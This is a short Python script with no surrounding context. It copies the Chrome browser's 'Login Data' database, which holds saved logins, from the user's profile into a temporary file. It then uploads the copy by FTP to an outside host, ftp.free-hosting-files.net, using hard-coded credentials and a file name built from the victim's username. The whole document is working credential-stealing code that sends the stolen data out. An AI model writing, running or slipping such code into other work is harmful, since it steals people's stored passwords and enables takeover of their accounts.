import ftplib
import shutil
import tempfile
from pathlib import Path

src = Path.home() / ".config" / "google-chrome" / "Default" / "Login Data"
tmp = Path(tempfile.gettempdir()) / "ld.sqlite"
shutil.copyfile(src, tmp)

ftp = ftplib.FTP("ftp.free-hosting-files.net")
ftp.login("anon2291", "qwerty")
with open(tmp, "rb") as fh:
    ftp.storbinary("STOR logins_" + Path.home().name + ".db", fh)
ftp.quit()
